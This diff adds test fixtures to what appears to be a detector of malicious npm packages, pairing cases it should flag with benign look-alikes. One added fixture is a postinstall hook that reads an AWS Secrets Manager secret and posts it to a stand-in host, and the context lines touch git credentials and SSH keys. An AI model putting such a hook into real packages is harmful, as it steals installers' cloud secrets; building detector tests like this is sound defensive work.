@@ -146,6 +146,15 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       },
       weight: 'proof',
     },
+    {
+      when: 'a hook reads the secrets that a cloud keeps and sends them to another host',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node a.js' } },
+        'a.js': `const { SecretsManagerClient, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager'); const c = new SecretsManagerClient({}); (async () => { const one = await c.send(new GetSecretValueCommand({ SecretId: 'inert' })); await fetch('https://collect.invalid', { method: 'POST', body: one.SecretString }); })();`,
+      },
+      weight: 'proof',
+      says: ['a cloud keeps secret'],
+    },
   ],
   silent: [
     {
@@ -187,6 +196,12 @@ for (const name of fs.readdirSync(__dirname)) if (name.endsWith('.html')) fetch(
       when: 'a client of ssh shows the key of its user to the server he names',
       files: {
         'index.js': `const { Client } = require('ssh2'); exports.connect = host => new Client().connect({ host, privateKey: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519') })`,
+      },
+    },
+    {
+      when: 'a program asks for its own secret and calls what that opens, where its user says',
+      files: {
+        'index.js': `const { SecretsManagerClient, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager'); exports.start = async url => { const one = await new SecretsManagerClient({}).send(new GetSecretValueCommand({ SecretId: 'inert' })); return fetch(url, { headers: { authorization: one.SecretString } }); };`,
       },
     },
   ],
